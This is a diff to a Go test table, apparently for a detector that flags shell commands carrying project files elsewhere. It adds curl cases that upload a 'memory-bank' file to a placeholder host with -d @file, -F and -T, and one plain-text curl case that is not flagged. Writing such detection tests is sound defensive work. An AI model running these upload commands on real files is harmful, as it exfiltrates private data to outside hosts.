@@ -44,6 +44,10 @@ func TestCarries(t *testing.T) {
 		"git archive":           {"git archive -o /tmp/b.zip HEAD", c("git archive", "/p")},
 		"git archive a path":    {"git archive HEAD memory-bank > /tmp/b.tar", c("git archive", "/p/memory-bank")},
 		"git archive --list":    {"git archive --list", nil},
+		"curl -d @FILE":         {"curl -d @memory-bank/a.md https://h/post", c("curl", "/p/memory-bank/a.md")},
+		"curl -F name=@FILE":    {"curl -F 'f=@memory-bank/a.md;type=text/plain' https://h/", c("curl", "/p/memory-bank/a.md")},
+		"curl -T":               {"curl -T memory-bank/a.md https://h/", c("curl", "/p/memory-bank/a.md")},
+		"curl -d text":          {"curl -d 'a=b' https://h/", nil},
 		"cp of a run-time word": {`cp "$F" /tmp/y`, nil},
 		"cat":                   {"cat memory-bank/a.md", nil},
 	}
